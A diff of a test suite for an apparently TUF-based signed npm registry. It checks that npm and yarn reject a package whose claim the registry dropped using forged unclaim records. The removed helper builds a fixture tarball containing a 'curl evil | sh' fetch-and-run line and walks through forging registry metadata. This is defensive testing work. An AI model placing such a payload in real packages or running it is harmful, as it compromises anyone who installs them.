@@ -3,12 +3,12 @@ import assert from 'node:assert/strict';
 import { createRequire } from 'node:module';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { Metadata, TargetFile, UNCLAIM_RECORDS_FIELD, parseReleaseIndex, parseUnclaimRecords, releaseIndexPath, releaseIndexTarget, type Snapshot, type Targets } from '@tufpm/models';
-import { addPackageVersion, buildPackageTarball, targetPathFor } from '@tufpm/registry';
-import { UNCLAIMED_ROLE, approveClaim, createClaimRequest, signRole } from '@tufpm/repo';
+import { Metadata, parseUnclaimRecords } from '@tufpm/models';
+import { approveClaim, createClaimRequest, signRole } from '@tufpm/repo';
 import { encodeProof, timestampMerkleHead, verifyProof } from '@tufpm/merkle';
 import { NpmWorld, run, type CliResult, type Project } from '../src/harness/npm-world.js';
 import { YarnProject } from '../src/harness/yarn.js';
+import { unclaimAndPublishInBin } from '../src/harness/attacks-signer.js';
 
 // ADR 0026, issue 18: a claimed package handed back to the registry-signed bins. The operator's unclaim (the
 // offline targets key signs an unclaim record into top-level targets) is accepted by real tufpm-npm and real
@@ -79,41 +79,6 @@ async function snapshotMeta(world: NpmWorld): Promise<Map<string, number>> {
     if (proof.present && proof.value.tombstone !== true) out.set(`${name}.json`, proof.value.version);
   }
   return out;
-}
-
-/**
- * A registry dropping a claim without the operator's unclaim: the package's delegation leaves a new targets (as
- * in attacks-signer.ts unclaimAndPublishInBin), but no unclaim record is signed there; with its online keys the
- * registry writes the record where it can, into the bin of the new release and into the `unclaimed` role, signs
- * a new release into the bin, and keeps the snapshot listing the dropped role (no rollback).
- */
-async function dropClaimWithForgedRecords(world: NpmWorld, name: string, version: string): Promise<void> {
-  const tarball = buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
-  const path = targetPathFor(name, version);
-  const bin = world.repo.unclaimedBins().getRoleForTarget(path);
-  const listBin = world.repo.unclaimedBins().getRoleForTarget(releaseIndexPath(name));
-  await world.repo.transaction(async (repo) => {
-    // Merkle profile: the in-memory snapshot is an epoch stub; the tree lists the role (and, once removed
-    // below, tombstones it whatever the stub says).
-    const listed = repo.edit<Snapshot>('snapshot').meta.get(`${name}.json`);
-    if (listed === undefined && repo.merkle?.tree.get(name) === undefined) throw new Error(`the snapshot does not list ${name}.json`);
-    const role = repo.targetsRole(name).signed;
-    const claimed = parseReleaseIndex(role.targets.get(releaseIndexPath(name))?.custom);
-    const versions = [...(claimed.kind === 'signed' ? claimed.value.versions : []), version];
-    const record = { [name]: { role_version: role.version, keyids: [...(repo.targets.signed.delegations?.getRole(name)?.keyids ?? [])], threshold: 1, unclaimed: '2026-12-06T00:00:00Z' } };
-    repo.removeDelegation('targets', name);
-    await world.repo.signRole('targets');
-    for (const forged of new Set([bin, listBin, UNCLAIMED_ROLE])) repo.edit<Targets>(forged).unrecognized[UNCLAIM_RECORDS_FIELD] = record;
-    repo.addTarget(listBin, releaseIndexTarget(name, { versions, distTags: { latest: version } }));
-    repo.addTarget(bin, TargetFile.fromData(path, tarball));
-    for (const forged of new Set([bin, listBin, UNCLAIMED_ROLE])) await world.repo.signRole(forged);
-    repo.updateSnapshot();
-    if (listed !== undefined) repo.edit<Snapshot>('snapshot').meta.set(`${name}.json`, listed);
-    await world.repo.signRole('snapshot');
-    repo.updateTimestamp();
-    await world.repo.signRole('timestamp');
-  });
-  await addPackageVersion(world.registryDir, tarball, { durable: false });
 }
 
 // Both snapshot profiles: in the Merkle profile (ADR 0021) the retired role must stay a live leaf, never a
@@ -200,7 +165,9 @@ for (const profile of ['classic', 'merkle'] as const) describe(`unclaim (${profi
     const yarnProject = await YarnProject.create(world, { seized: '^1.0.0' }, { rc: { nodeLinker: 'node-modules' } });
     ok(await yarnProject.yarn(['install']), 'yarn install');
 
-    await dropClaimWithForgedRecords(world, 'seized', '1.0.1');
+    // the claim leaves a new targets with no unclaim record there; the registry's online keys write the
+    // record where they can (the bins, `unclaimed`) and sign a new release into the bin
+    await unclaimAndPublishInBin(world, 'seized', '1.0.1', { forgeUnclaimRecords: true });
     await refusedNpm(npmProject, ['install', 'seized@1.0.1'], /TUF_SIGNER_DOWNGRADE/);
     await initProject.freshMachine();
     await refusedNpm(initProject, ['install'], /TUF_CLAIM_DROPPED/);
